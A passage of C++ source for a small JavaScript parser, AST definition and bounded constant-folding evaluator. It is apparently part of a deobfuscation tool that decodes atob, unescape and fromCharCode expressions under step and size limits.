        expect(")", "for-in");
        node->kids.push_back(statement());
        node->end = node->kids.back()->end;
        return node;
      }
    }
    expect(";", "for");
    if (!check(";")) node->kids.push_back(expression());
    expect(";", "for");
    if (!check(")")) node->kids.push_back(expression());
    expect(")", "for");
    node->kids.push_back(statement());
    node->end = node->kids.back()->end;
    return node;
  }

  NodePtr try_statement() {
    const Token& kw = advance();  // 'try'
    NodePtr node = make(Node::Kind::Try, kw.begin, kw.end);
    node->kids.push_back(block());
    bool handled = false;
    if (check("catch")) {
      advance();
      if (match("(")) {
        if (!check_name()) fail("expected catch parameter");
        advance();
        expect(")", "catch");
      }
      node->kids.push_back(block());
      handled = true;
    }
    if (check("finally")) {
      advance();
      node->kids.push_back(block());
      handled = true;
    }
    if (!handled) fail("try without catch or finally");
    node->end = node->kids.back()->end;
    return node;
  }

  /// `function name? (params) { body }` — declaration or expression form.
  NodePtr function_node(Node::Kind kind) {
    const Token& kw = advance();  // 'function'
    NodePtr node = make(kind, kw.begin, kw.end);
    if (check_name()) {
      node->name = advance().text;
    } else if (kind == Node::Kind::FunctionDecl) {
      fail("function declaration requires a name");
    }
    expect("(", "function");
    while (!check(")")) {
      match("...");  // rest parameter
      if (!check_name()) fail("expected parameter name");
      node->props.push_back(advance().text);
      if (match("=")) assignment();  // default value (parsed, opaque)
      if (!match(",")) break;
    }
    expect(")", "function");
    const Token& open = expect("{", "function body");
    (void)open;
    while (!check("}")) {
      if (at_end()) fail("unterminated function body");
      node->kids.push_back(statement());
    }
    node->end = advance().end;  // '}'
    return node;
  }

  // --- expressions --------------------------------------------------------

  NodePtr expression() {
    DepthGuard guard(*this);
    NodePtr first = assignment();
    if (!check(",")) return first;
    NodePtr node = make(Node::Kind::Sequence, first->begin, first->end);
    node->kids.push_back(std::move(first));
    while (match(",")) {
      node->kids.push_back(assignment());
      node->end = node->kids.back()->end;
    }
    return node;
  }

  [[nodiscard]] static bool is_assign_op(std::string_view op) {
    return op == "=" || op == "+=" || op == "-=" || op == "*=" || op == "/=" ||
           op == "%=" || op == "**=" || op == "<<=" || op == ">>=" ||
           op == ">>>=" || op == "&=" || op == "|=" || op == "^=" ||
           op == "&&=" || op == "||=" || op == "??=";
  }

  NodePtr assignment() {
    DepthGuard guard(*this);
    NodePtr lhs = conditional();
    if (!at_end() && check_kind(TokenKind::Punct) && is_assign_op(peek().text)) {
      const std::string op = advance().text;
      NodePtr node = make(Node::Kind::Assign, lhs->begin, lhs->end);
      node->name = op;
      node->kids.push_back(std::move(lhs));
      node->kids.push_back(assignment());
      node->end = node->kids.back()->end;
      return node;
    }
    return lhs;
  }

  NodePtr conditional() {
    NodePtr cond = binary(0);
    if (!match("?")) return cond;
    NodePtr node = make(Node::Kind::Conditional, cond->begin, cond->end);
    node->kids.push_back(std::move(cond));
    node->kids.push_back(assignment());
    expect(":", "conditional");
    node->kids.push_back(assignment());
    node->end = node->kids.back()->end;
    return node;
  }

  [[nodiscard]] int binary_precedence(const Token& t) const {
    if (t.kind == TokenKind::Ident) {
      if (t.text == "instanceof" || t.text == "in") return 7;
      return 0;
    }
    if (t.kind != TokenKind::Punct) return 0;
    const std::string_view op = t.text;
    if (op == "??" || op == "||") return 1;
    if (op == "&&") return 2;
    if (op == "|") return 3;
    if (op == "^") return 4;
    if (op == "&") return 5;
    if (op == "==" || op == "!=" || op == "===" || op == "!==") return 6;
    if (op == "<" || op == ">" || op == "<=" || op == ">=") return 7;
    if (op == "<<" || op == ">>" || op == ">>>") return 8;
    if (op == "+" || op == "-") return 9;
    if (op == "*" || op == "/" || op == "%") return 10;
    if (op == "**") return 11;
    return 0;
  }

  NodePtr binary(int min_prec) {
    DepthGuard guard(*this);
    NodePtr lhs = unary();
    while (!at_end()) {
      const int prec = binary_precedence(peek());
      if (prec == 0 || prec < min_prec) break;
      const std::string op = advance().text;
      // '**' is right-associative; everything else left.
      NodePtr rhs = binary(op == "**" ? prec : prec + 1);
      NodePtr node = make(Node::Kind::Binary, lhs->begin, rhs->end);
      node->name = op;
      node->kids.push_back(std::move(lhs));
      node->kids.push_back(std::move(rhs));
      lhs = std::move(node);
    }
    return lhs;
  }

  NodePtr unary() {
    DepthGuard guard(*this);
    if (!at_end()) {
      const Token& t = peek();
      const bool punct_unary =
          t.kind == TokenKind::Punct &&
          (t.text == "!" || t.text == "~" || t.text == "+" || t.text == "-");
      const bool word_unary =
          t.kind == TokenKind::Ident &&
          (t.text == "typeof" || t.text == "void" || t.text == "delete");
      const bool update =
          t.kind == TokenKind::Punct && (t.text == "++" || t.text == "--");
      if (punct_unary || word_unary) {
        advance();
        NodePtr node = make(Node::Kind::Unary, t.begin, t.end);
        node->name = t.text;
        node->kids.push_back(unary());
        node->end = node->kids.back()->end;
        return node;
      }
      if (update) {
        advance();
        NodePtr node = make(Node::Kind::Update, t.begin, t.end);
        node->name = t.text;
        node->kids.push_back(unary());
        node->end = node->kids.back()->end;
        return node;
      }
    }
    return postfix();
  }

  NodePtr postfix() {
    NodePtr expr = call_member();
    while (!at_end() && check_kind(TokenKind::Punct) &&
           (peek().text == "++" || peek().text == "--") &&
           !peek().newline_before) {
      const Token& t = advance();
      NodePtr node = make(Node::Kind::Update, expr->begin, t.end);
      node->name = t.text;
      node->kids.push_back(std::move(expr));
      expr = std::move(node);
    }
    return expr;
  }

  NodePtr call_member() {
    DepthGuard guard(*this);
    NodePtr expr;
    if (check("new")) {
      const Token& kw = advance();
      // `new Callee(args)` — the callee is a member chain without calls.
      NodePtr callee = member_chain(primary(), /*allow_calls=*/false);
      NodePtr node = make(Node::Kind::New, kw.begin, callee->end);
      node->kids.push_back(std::move(callee));
      if (check("(")) {
        node->end = arguments(*node);
      }
      expr = std::move(node);
    } else {
      expr = primary();
    }
    return member_chain(std::move(expr), /*allow_calls=*/true);
  }

  /// `.prop`, `["key"]`, `(args)` chains on `base`.
  NodePtr member_chain(NodePtr base, bool allow_calls) {
    while (!at_end()) {
      if (match(".") || match("?.")) {
        if (at_end() || peek().kind != TokenKind::Ident) {
          fail("expected property name");
        }
        const Token& prop = advance();
        NodePtr node = make(Node::Kind::Member, base->begin, prop.end);
        node->name = prop.text;
        node->kids.push_back(std::move(base));
        base = std::move(node);
        continue;
      }
      if (check("[")) {
        advance();
        NodePtr index = expression();
        const Token& close = expect("]", "index");
        NodePtr node = make(Node::Kind::Index, base->begin, close.end);
        node->kids.push_back(std::move(base));
        node->kids.push_back(std::move(index));
        base = std::move(node);
        continue;
      }
      if (allow_calls && check("(")) {
        NodePtr node = make(Node::Kind::Call, base->begin, base->end);
        node->kids.push_back(std::move(base));
        node->end = arguments(*node);
        base = std::move(node);
        continue;
      }
      break;
    }
    return base;
  }

  /// Parses `(arg, ...)` appending args to `node.kids`; returns the end
  /// offset of the closing paren.
  std::size_t arguments(Node& node) {
    expect("(", "arguments");
    while (!check(")")) {
      match("...");  // spread (parsed, opaque to evaluation)
      node.kids.push_back(assignment());
      if (!match(",")) break;
    }
    const Token& close = expect(")", "arguments");
    return close.end;
  }

  NodePtr primary() {
    DepthGuard guard(*this);
    const Token& t = peek();
    switch (t.kind) {
      case TokenKind::Number: {
        NodePtr node = make(Node::Kind::Number, t.begin, t.end);
        node->num = t.num_value;
        advance();
        return node;
      }
      case TokenKind::String: {
        NodePtr node = make(Node::Kind::String, t.begin, t.end);
        node->str = t.str_value;
        advance();
        return node;
      }
      case TokenKind::Regex: {
        NodePtr node = make(Node::Kind::Regex, t.begin, t.end);
        advance();
        return node;
      }
      case TokenKind::Ident: {
        if (t.text == "function") return function_node(Node::Kind::FunctionExpr);
        if (is_reserved_word(t.text) && t.text != "this" && t.text != "true" &&
            t.text != "false" && t.text != "null" && t.text != "undefined") {
          fail("unexpected keyword '" + t.text + "'");
        }
        NodePtr node = make(Node::Kind::Ident, t.begin, t.end);
        node->name = t.text;
        advance();
        return node;
      }
      case TokenKind::Punct:
        break;
    }
    if (t.text == "(") {
      advance();
      NodePtr inner = expression();
      expect(")", "parenthesized expression");
      // The inner node keeps its own extent: replacing it in place leaves
      // the (redundant but valid) parentheses.
      return inner;
    }
    if (t.text == "[") {
      advance();
      NodePtr node = make(Node::Kind::Array, t.begin, t.end);
      while (!check("]")) {
        if (check(",")) {  // elision
          const Token& hole = advance();
          NodePtr undef = make(Node::Kind::Ident, hole.begin, hole.begin);
          undef->name = "undefined";
          node->kids.push_back(std::move(undef));
          continue;
        }
        match("...");  // spread (parsed, opaque)
        node->kids.push_back(assignment());
        if (!match(",")) break;
      }
      node->end = expect("]", "array literal").end;
      return node;
    }
    if (t.text == "{") {
      advance();
      NodePtr node = make(Node::Kind::Object, t.begin, t.end);
      while (!check("}")) {
        if (at_end()) fail("unterminated object literal");
        const Token& key = peek();
        if (key.kind != TokenKind::Ident && key.kind != TokenKind::String &&
            key.kind != TokenKind::Number) {
          fail("unsupported object key");
        }
        advance();
        node->props.push_back(
            key.kind == TokenKind::String ? key.str_value : key.text);
        if (match(":")) {
          node->kids.push_back(assignment());
        } else if (key.kind == TokenKind::Ident && !is_reserved_word(key.text)) {
          // shorthand { name }
          NodePtr ref = make(Node::Kind::Ident, key.begin, key.end);
          ref->name = key.text;
          node->kids.push_back(std::move(ref));
        } else {
          fail("expected ':' in object literal");
        }
        if (!match(",")) break;
      }
      node->end = expect("}", "object literal").end;
      return node;
    }
    fail("unexpected token '" + t.text + "'");
  }

  std::vector<Token> tokens_;
  std::size_t pos_ = 0;
  int depth_ = 0;
  std::size_t nodes_ = 0;
};

}  // namespace

Program parse(std::string_view source) {
  LexResult lexed = lex(source);
  if (!lexed.ok) {
    Program program;
    program.error = lexed.error;
    return program;
  }
  return Parser(std::move(lexed.tokens)).run();
}

bool is_valid_syntax(std::string_view source) { return parse(source).ok; }

}  // namespace jslang
