#pragma once

/// \file jslang/parser.h
/// Mini JavaScript recursive-descent parser over jslang/lexer.h tokens.
/// Covers the statement/expression subset the JS front-end folds or walks
/// past (docs/API.md lists it); anything outside the subset fails the
/// parse, making the front-end a no-op for that input. Hostile-input
/// hardened the same way the PS parser is: bounded recursion depth and
/// bounded node count, both failing the parse rather than the process.

#include <string_view>

#include "jslang/ast.h"

namespace jslang {

/// Parses `source` into a Program; `ok` is false (with `error`) when the
/// text is outside the supported subset. Never throws.
[[nodiscard]] Program parse(std::string_view source);

/// Whether `source` parses under the mini grammar (the JS front-end's
/// per-step rollback oracle).
[[nodiscard]] bool is_valid_syntax(std::string_view source);

}  // namespace jslang
