#pragma once

/// \file jslang/ast.h
/// Mini JavaScript AST for the JS front-end. One tagged node type (the
/// tree is small and short-lived; no arena, no visitors) with byte extents
/// into the source — extents are what the recovery pass replaces, exactly
/// like the PowerShell substrate's Ast extents.

#include <cstddef>
#include <memory>
#include <string>
#include <vector>

namespace jslang {

struct Node;
using NodePtr = std::unique_ptr<Node>;

struct Node {
  enum class Kind {
    // expressions
    Number,       ///< numeric literal (value in `num`)
    String,       ///< string literal (decoded value in `str`)
    Regex,        ///< regex literal (opaque)
    Ident,        ///< identifier reference (`name`)
    Array,        ///< array literal; kids = elements
    Object,       ///< object literal; kids = values, `props` = keys (opaque)
    Unary,        ///< `name` = op; kids[0] = operand
    Binary,       ///< `name` = op; kids = {lhs, rhs}
    Assign,       ///< `name` = op (`=`, `+=`, ...); kids = {target, value}
    Update,       ///< `name` = `++`/`--`; kids[0] = target (opaque)
    Conditional,  ///< kids = {cond, then, else}
    Call,         ///< kids[0] = callee, kids[1..] = args
    New,          ///< kids[0] = callee, kids[1..] = args
    Member,       ///< kids[0] = object; `name` = property
    Index,        ///< kids = {object, index-expr}
    FunctionExpr, ///< opaque; kids = body statements (extents only)
    Sequence,     ///< comma expression; kids = operands

    // statements
    VarDecl,      ///< `name` = var/let/const; kids = Declarator nodes
    Declarator,   ///< `name` = variable; kids = {init} or empty
    ExprStmt,     ///< kids[0] = expression
    Block,        ///< kids = statements
    If,           ///< kids = {cond, then[, else]}
    While,        ///< kids = {cond, body}
    DoWhile,      ///< kids = {body, cond}
    For,          ///< opaque header loop; kids = clause/body nodes
    Return,       ///< kids = {value} or empty
    Throw,        ///< kids = {value}
    Try,          ///< kids = blocks (opaque)
    BreakStmt,
    ContinueStmt,
    FunctionDecl, ///< `name` = function name; kids = body statements
    Empty,        ///< lone `;`
  };

  Kind kind;
  std::size_t begin = 0;  ///< byte extent into the source text
  std::size_t end = 0;
  double num = 0;
  std::string str;
  std::string name;
  /// Object-literal keys (parallel to kids) and function parameter names.
  std::vector<std::string> props;
  std::vector<NodePtr> kids;
};

struct Program {
  std::vector<NodePtr> stmts;
  bool ok = false;
  std::string error;  ///< first parse error when !ok
};

}  // namespace jslang
