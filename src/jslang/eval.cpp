#include "jslang/eval.h"

#include <algorithm>
#include <cctype>
#include <charconv>
#include <cmath>
#include <cstdint>
#include <cstdlib>
#include <utility>

#include "psvalue/budget.h"

namespace jslang {

namespace {

/// Internal "outside the constant subset" abort; caught at the evaluate()
/// boundary. ps::BudgetError deliberately does NOT use this path — it must
/// propagate to the governor.
struct Bail {};

double to_number_from_string(std::string_view s) {
  // JS ToNumber(string): trimmed; "" -> 0; hex/binary/octal prefixes; else
  // full-string decimal parse; anything else NaN.
  std::size_t b = 0;
  std::size_t e = s.size();
  while (b < e && std::isspace(static_cast<unsigned char>(s[b])) != 0) ++b;
  while (e > b && std::isspace(static_cast<unsigned char>(s[e - 1])) != 0) --e;
  s = s.substr(b, e - b);
  if (s.empty()) return 0;
  if (s.size() > 2 && s[0] == '0' &&
      (s[1] == 'x' || s[1] == 'X' || s[1] == 'b' || s[1] == 'B' ||
       s[1] == 'o' || s[1] == 'O')) {
    const int base = (s[1] == 'x' || s[1] == 'X')   ? 16
                     : (s[1] == 'b' || s[1] == 'B') ? 2
                                                    : 8;
    const std::string digits(s.substr(2));
    char* end = nullptr;
    const unsigned long long v = std::strtoull(digits.c_str(), &end, base);
    if (end == nullptr || *end != '\0' || end == digits.c_str()) {
      return std::nan("");
    }
    return static_cast<double>(v);
  }
  const std::string text(s);
  char* end = nullptr;
  const double v = std::strtod(text.c_str(), &end);
  if (end == nullptr || *end != '\0' || end == text.c_str()) {
    if (text == "Infinity" || text == "+Infinity") return HUGE_VAL;
    if (text == "-Infinity") return -HUGE_VAL;
    return std::nan("");
  }
  return v;
}

std::string number_to_string(double d) {
  if (std::isnan(d)) return "NaN";
  if (std::isinf(d)) return d > 0 ? "Infinity" : "-Infinity";
  if (d == 0) return std::signbit(d) ? "0" : "0";
  // Shortest round-trip; matches JS for the integer/decimal range that
  // matters here (the folder bails on exotica before rendering).
  char buf[64];
  const auto [ptr, ec] = std::to_chars(buf, buf + sizeof(buf), d);
  if (ec != std::errc()) return "NaN";
  return std::string(buf, ptr);
}

std::int32_t to_int32(double d) {
  if (!std::isfinite(d) || d == 0) return 0;
  const double m = std::trunc(d);
  const double wrapped = std::fmod(m, 4294967296.0);
  auto u = static_cast<std::uint32_t>(
      wrapped < 0 ? wrapped + 4294967296.0 : wrapped);
  return static_cast<std::int32_t>(u);
}

void append_utf8(std::string& out, unsigned long cp) {
  if (cp < 0x80) {
    out += static_cast<char>(cp);
  } else if (cp < 0x800) {
    out += static_cast<char>(0xC0 | (cp >> 6));
    out += static_cast<char>(0x80 | (cp & 0x3F));
  } else if (cp < 0x10000) {
    out += static_cast<char>(0xE0 | (cp >> 12));
    out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
    out += static_cast<char>(0x80 | (cp & 0x3F));
  } else {
    out += static_cast<char>(0xF0 | (cp >> 18));
    out += static_cast<char>(0x80 | ((cp >> 12) & 0x3F));
    out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
    out += static_cast<char>(0x80 | (cp & 0x3F));
  }
}

bool ascii_only(std::string_view s) {
  for (char c : s) {
    if (static_cast<unsigned char>(c) >= 0x80) return false;
  }
  return true;
}

int base64_value(char c) {
  if (c >= 'A' && c <= 'Z') return c - 'A';
  if (c >= 'a' && c <= 'z') return c - 'a' + 26;
  if (c >= '0' && c <= '9') return c - '0' + 52;
  if (c == '+') return 62;
  if (c == '/') return 63;
  return -1;
}

int hex_digit(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

class Evaluator {
 public:
  Evaluator(const std::map<std::string, JsValue>& env, const EvalLimits& limits)
      : env_(env), limits_(limits) {}

  JsValue eval(const Node& n) {
    step();
    switch (n.kind) {
      case Node::Kind::Number:
        return JsValue::number_value(n.num);
      case Node::Kind::String:
        return JsValue::string_value(n.str);
      case Node::Kind::Ident:
        return ident(n.name);
      case Node::Kind::Array: {
        std::vector<JsValue> items;
        items.reserve(n.kids.size());
        for (const NodePtr& kid : n.kids) {
          step();
          items.push_back(eval(*kid));
        }
        return JsValue::array_value(std::move(items));
      }
      case Node::Kind::Unary:
        return unary(n);
      case Node::Kind::Binary:
        return binary(n);
      case Node::Kind::Conditional:
        return truthy(eval(*n.kids[0])) ? eval(*n.kids[1]) : eval(*n.kids[2]);
      case Node::Kind::Sequence: {
        JsValue last;
        for (const NodePtr& kid : n.kids) last = eval(*kid);
        return last;
      }
      case Node::Kind::Member:
        return member(eval(*n.kids[0]), n.name);
      case Node::Kind::Index:
        return index(eval(*n.kids[0]), eval(*n.kids[1]));
      case Node::Kind::Call:
        return call(n);
      default:
        // Assignments, updates, functions, objects, regexes, `new`, and
        // every statement form: outside the constant subset.
        throw Bail{};
    }
  }

 private:
  void step() {
    if (limits_.budget != nullptr) limits_.budget->checkpoint();
    if (++steps_ > limits_.max_steps) throw Bail{};
  }

  /// Size-guards (and budget-charges) a freshly materialized value.
  std::string charged(std::string s) {
    if (s.size() > limits_.max_value_bytes) throw Bail{};
    if (limits_.budget != nullptr) limits_.budget->charge_bytes(s.size());
    return s;
  }

  JsValue ident(const std::string& name) {
    if (name == "undefined") return JsValue::undefined();
    if (name == "null") return JsValue::null();
    if (name == "true") return JsValue::boolean_value(true);
    if (name == "false") return JsValue::boolean_value(false);
    if (name == "NaN") return JsValue::number_value(std::nan(""));
    if (name == "Infinity") return JsValue::number_value(HUGE_VAL);
    const auto it = env_.find(name);
    if (it == env_.end()) throw Bail{};
    return it->second;
  }

  static bool truthy(const JsValue& v) {
    switch (v.kind) {
      case JsValue::Kind::Undefined:
      case JsValue::Kind::Null:
        return false;
      case JsValue::Kind::Bool:
        return v.boolean;
      case JsValue::Kind::Number:
        return v.number != 0 && !std::isnan(v.number);
      case JsValue::Kind::String:
        return !v.string.empty();
      case JsValue::Kind::Array:
        return true;
    }
    return false;
  }

  static double to_number(const JsValue& v) {
    switch (v.kind) {
      case JsValue::Kind::Undefined:
        return std::nan("");
      case JsValue::Kind::Null:
        return 0;
      case JsValue::Kind::Bool:
        return v.boolean ? 1 : 0;
      case JsValue::Kind::Number:
        return v.number;
      case JsValue::Kind::String:
        return to_number_from_string(v.string);
      case JsValue::Kind::Array:
        // [] -> 0, [x] -> ToNumber(x); beyond that NaN. Bail instead of
        // modeling it.
        throw Bail{};
    }
    return std::nan("");
  }

  std::string to_string(const JsValue& v) {
    switch (v.kind) {
      case JsValue::Kind::Undefined:
        return "undefined";
      case JsValue::Kind::Null:
        return "null";
      case JsValue::Kind::Bool:
        return v.boolean ? "true" : "false";
      case JsValue::Kind::Number:
        return number_to_string(v.number);
      case JsValue::Kind::String:
        return v.string;
      case JsValue::Kind::Array: {
        std::string out;
        for (std::size_t i = 0; i < v.array.size(); ++i) {
          step();
          if (i != 0) out += ',';
          const JsValue& item = v.array[i];
          if (item.kind == JsValue::Kind::Undefined ||
              item.kind == JsValue::Kind::Null) {
            continue;  // join renders them empty
          }
          out += to_string(item);
        }
        return charged(std::move(out));
      }
    }
    throw Bail{};
  }

  JsValue unary(const Node& n) {
    if (n.name == "typeof") {
      // typeof of an *unknown* name would need scope knowledge — eval the
      // operand, bailing on unknowns like everything else.
      const JsValue v = eval(*n.kids[0]);
      switch (v.kind) {
        case JsValue::Kind::Undefined: return JsValue::string_value("undefined");
        case JsValue::Kind::Null: return JsValue::string_value("object");
        case JsValue::Kind::Bool: return JsValue::string_value("boolean");
        case JsValue::Kind::Number: return JsValue::string_value("number");
        case JsValue::Kind::String: return JsValue::string_value("string");
        case JsValue::Kind::Array: return JsValue::string_value("object");
      }
      throw Bail{};
    }
    if (n.name == "void") {
      (void)eval(*n.kids[0]);
      return JsValue::undefined();
    }
    const JsValue v = eval(*n.kids[0]);
    if (n.name == "!") return JsValue::boolean_value(!truthy(v));
    if (n.name == "-") return JsValue::number_value(-to_number(v));
    if (n.name == "+") return JsValue::number_value(to_number(v));
    if (n.name == "~") {
      return JsValue::number_value(static_cast<double>(~to_int32(to_number(v))));
    }
    throw Bail{};  // delete, ...
  }

  JsValue binary(const Node& n) {
    const std::string& op = n.name;
    // Value-returning short-circuit forms first.
    if (op == "&&") {
      JsValue lhs = eval(*n.kids[0]);
      return truthy(lhs) ? eval(*n.kids[1]) : lhs;
    }
    if (op == "||") {
      JsValue lhs = eval(*n.kids[0]);
      return truthy(lhs) ? lhs : eval(*n.kids[1]);
    }
    if (op == "??") {
      JsValue lhs = eval(*n.kids[0]);
      const bool nullish = lhs.kind == JsValue::Kind::Undefined ||
                           lhs.kind == JsValue::Kind::Null;
      return nullish ? eval(*n.kids[1]) : lhs;
    }

    const JsValue lhs = eval(*n.kids[0]);
    const JsValue rhs = eval(*n.kids[1]);
    if (op == "+") {
      // JS addition: string concatenation when either side ToPrimitives to
      // a string (arrays do — their primitive is join(",")).
      const bool string_add = lhs.kind == JsValue::Kind::String ||
                              rhs.kind == JsValue::Kind::String ||
                              lhs.kind == JsValue::Kind::Array ||
                              rhs.kind == JsValue::Kind::Array;
      if (string_add) {
        return JsValue::string_value(charged(to_string(lhs) + to_string(rhs)));
      }
      return JsValue::number_value(to_number(lhs) + to_number(rhs));
    }
    if (op == "-") return JsValue::number_value(to_number(lhs) - to_number(rhs));
    if (op == "*") return JsValue::number_value(to_number(lhs) * to_number(rhs));
    if (op == "/") return JsValue::number_value(to_number(lhs) / to_number(rhs));
    if (op == "%") {
      return JsValue::number_value(std::fmod(to_number(lhs), to_number(rhs)));
    }
    if (op == "**") {
      return JsValue::number_value(std::pow(to_number(lhs), to_number(rhs)));
    }
    if (op == "<<" || op == ">>" || op == ">>>" || op == "&" || op == "|" ||
        op == "^") {
      const std::int32_t a = to_int32(to_number(lhs));
      const std::int32_t b = to_int32(to_number(rhs));
      const auto shift = static_cast<std::uint32_t>(b) & 31u;
      if (op == "&") return JsValue::number_value(a & b);
      if (op == "|") return JsValue::number_value(a | b);
      if (op == "^") return JsValue::number_value(a ^ b);
      if (op == "<<") {
        return JsValue::number_value(static_cast<std::int32_t>(
            static_cast<std::uint32_t>(a) << shift));
      }
      if (op == ">>") return JsValue::number_value(a >> shift);
      return JsValue::number_value(
          static_cast<double>(static_cast<std::uint32_t>(a) >> shift));
    }
    if (op == "===" || op == "!==") {
      const bool eq = strict_equals(lhs, rhs);
      return JsValue::boolean_value(op == "===" ? eq : !eq);
    }
    if (op == "==" || op == "!=") {
      const bool eq = loose_equals(lhs, rhs);
      return JsValue::boolean_value(op == "==" ? eq : !eq);
    }
    if (op == "<" || op == ">" || op == "<=" || op == ">=") {
      if (lhs.kind == JsValue::Kind::String &&
          rhs.kind == JsValue::Kind::String) {
        const int c = lhs.string.compare(rhs.string);
        if (op == "<") return JsValue::boolean_value(c < 0);
        if (op == ">") return JsValue::boolean_value(c > 0);
        if (op == "<=") return JsValue::boolean_value(c <= 0);
        return JsValue::boolean_value(c >= 0);
      }
      const double a = to_number(lhs);
      const double b = to_number(rhs);
      if (std::isnan(a) || std::isnan(b)) return JsValue::boolean_value(false);
      if (op == "<") return JsValue::boolean_value(a < b);
      if (op == ">") return JsValue::boolean_value(a > b);
      if (op == "<=") return JsValue::boolean_value(a <= b);
      return JsValue::boolean_value(a >= b);
    }
    throw Bail{};  // instanceof, in
  }

  static bool strict_equals(const JsValue& a, const JsValue& b) {
    if (a.kind != b.kind) return false;
    switch (a.kind) {
      case JsValue::Kind::Undefined:
      case JsValue::Kind::Null:
        return true;
      case JsValue::Kind::Bool:
        return a.boolean == b.boolean;
      case JsValue::Kind::Number:
        return a.number == b.number;  // NaN != NaN falls out of ==
      case JsValue::Kind::String:
        return a.string == b.string;
      case JsValue::Kind::Array:
        throw Bail{};  // reference identity; not modeled
    }
    return false;
  }

  static bool loose_equals(const JsValue& a, const JsValue& b) {
    const bool a_nullish = a.kind == JsValue::Kind::Undefined ||
                           a.kind == JsValue::Kind::Null;
    const bool b_nullish = b.kind == JsValue::Kind::Undefined ||
                           b.kind == JsValue::Kind::Null;
    if (a_nullish || b_nullish) return a_nullish && b_nullish;
    if (a.kind == b.kind) return strict_equals(a, b);
    if (a.kind == JsValue::Kind::Array || b.kind == JsValue::Kind::Array) {
      throw Bail{};  // ToPrimitive coercion chains; not worth modeling
    }
    return to_number(a) == to_number(b);
  }

  JsValue member(const JsValue& object, const std::string& prop) {
    if (prop == "length") {
      if (object.kind == JsValue::Kind::String) {
        if (!ascii_only(object.string)) throw Bail{};  // UTF-16 units differ
        return JsValue::number_value(
            static_cast<double>(object.string.size()));
      }
      if (object.kind == JsValue::Kind::Array) {
        return JsValue::number_value(static_cast<double>(object.array.size()));
      }
    }
    throw Bail{};
  }

  JsValue index(const JsValue& object, const JsValue& key) {
    if (key.kind == JsValue::Kind::String) {
      return member(object, key.string);
    }
    const double kd = to_number(key);
    if (std::isnan(kd) || kd < 0 || kd != std::trunc(kd)) throw Bail{};
    const auto i = static_cast<std::size_t>(kd);
    if (object.kind == JsValue::Kind::String) {
      if (!ascii_only(object.string)) throw Bail{};
      if (i >= object.string.size()) return JsValue::undefined();
      return JsValue::string_value(std::string(1, object.string[i]));
    }
    if (object.kind == JsValue::Kind::Array) {
      if (i >= object.array.size()) return JsValue::undefined();
      return object.array[i];
    }
    throw Bail{};
  }

  JsValue call(const Node& n) {
    const Node& callee = *n.kids[0];
    std::vector<JsValue> args;
    args.reserve(n.kids.size() - 1);
    const auto eval_args = [&] {
      for (std::size_t i = 1; i < n.kids.size(); ++i) {
        args.push_back(eval(*n.kids[i]));
      }
    };

    if (callee.kind == Node::Kind::Ident) {
      eval_args();
      return global_call(callee.name, args);
    }
    if (callee.kind == Node::Kind::Member) {
      const Node& object = *callee.kids[0];
      // Static namespaces first: String.fromCharCode, Math.*, Number.*.
      if (object.kind == Node::Kind::Ident) {
        const std::string& ns = object.name;
        if (ns == "String" || ns == "Math" || ns == "Number") {
          eval_args();
          return namespace_call(ns, callee.name, args);
        }
      }
      const JsValue receiver = eval(object);
      eval_args();
      return method_call(receiver, callee.name, args);
    }
    throw Bail{};
  }

  [[nodiscard]] static const JsValue& arg_or_undefined(
      const std::vector<JsValue>& args, std::size_t i) {
    static const JsValue undef{};
    return i < args.size() ? args[i] : undef;
  }

  JsValue global_call(const std::string& name,
                      const std::vector<JsValue>& args) {
    if (name == "parseInt") return do_parse_int(args);
    if (name == "parseFloat") {
      const std::string s = to_string(arg_or_undefined(args, 0));
      char* end = nullptr;
      std::size_t b = 0;
      while (b < s.size() && std::isspace(static_cast<unsigned char>(s[b]))) {
        ++b;
      }
      const double v = std::strtod(s.c_str() + b, &end);
      if (end == s.c_str() + b) return JsValue::number_value(std::nan(""));
      return JsValue::number_value(v);
    }
    if (name == "String") {
      if (args.empty()) return JsValue::string_value("");
      return JsValue::string_value(charged(to_string(args[0])));
    }
    if (name == "Number") {
      if (args.empty()) return JsValue::number_value(0);
      return JsValue::number_value(to_number(args[0]));
    }
    if (name == "Boolean") {
      return JsValue::boolean_value(!args.empty() && truthy(args[0]));
    }
    if (name == "atob") return do_atob(to_string(arg_or_undefined(args, 0)));
    if (name == "unescape") {
      return do_unescape(to_string(arg_or_undefined(args, 0)));
    }
    if (name == "decodeURIComponent" || name == "decodeURI") {
      return do_decode_uri(to_string(arg_or_undefined(args, 0)));
    }
    throw Bail{};  // eval & friends are the multilayer pass's business
  }

  JsValue namespace_call(const std::string& ns, const std::string& method,
                         const std::vector<JsValue>& args) {
    if (ns == "String") {
      if (method == "fromCharCode" || method == "fromCodePoint") {
        std::string out;
        for (const JsValue& arg : args) {
          step();
          const double d = to_number(arg);
          if (std::isnan(d) || d < 0 || d > 0x10FFFF || d != std::trunc(d)) {
            throw Bail{};
          }
          append_utf8(out, static_cast<unsigned long>(d));
        }
        return JsValue::string_value(charged(std::move(out)));
      }
      throw Bail{};
    }
    if (ns == "Math") {
      const auto num = [&](std::size_t i) {
        return to_number(arg_or_undefined(args, i));
      };
      if (method == "floor") return JsValue::number_value(std::floor(num(0)));
      if (method == "ceil") return JsValue::number_value(std::ceil(num(0)));
      if (method == "round") {
        // JS rounds half toward +inf, not away from zero.
        return JsValue::number_value(std::floor(num(0) + 0.5));
      }
      if (method == "trunc") return JsValue::number_value(std::trunc(num(0)));
      if (method == "abs") return JsValue::number_value(std::fabs(num(0)));
      if (method == "sqrt") return JsValue::number_value(std::sqrt(num(0)));
      if (method == "pow") return JsValue::number_value(std::pow(num(0), num(1)));
      if (method == "max" || method == "min") {
        if (args.empty()) {
          return JsValue::number_value(method == "max" ? -HUGE_VAL : HUGE_VAL);
        }
        double best = to_number(args[0]);
        for (std::size_t i = 1; i < args.size(); ++i) {
          const double v = to_number(args[i]);
          if (std::isnan(v) || std::isnan(best)) return
              JsValue::number_value(std::nan(""));
          best = method == "max" ? std::max(best, v) : std::min(best, v);
        }
        return JsValue::number_value(best);
      }
      throw Bail{};
    }
    if (ns == "Number") {
      if (method == "parseInt") return do_parse_int(args);
      throw Bail{};
    }
    throw Bail{};
  }

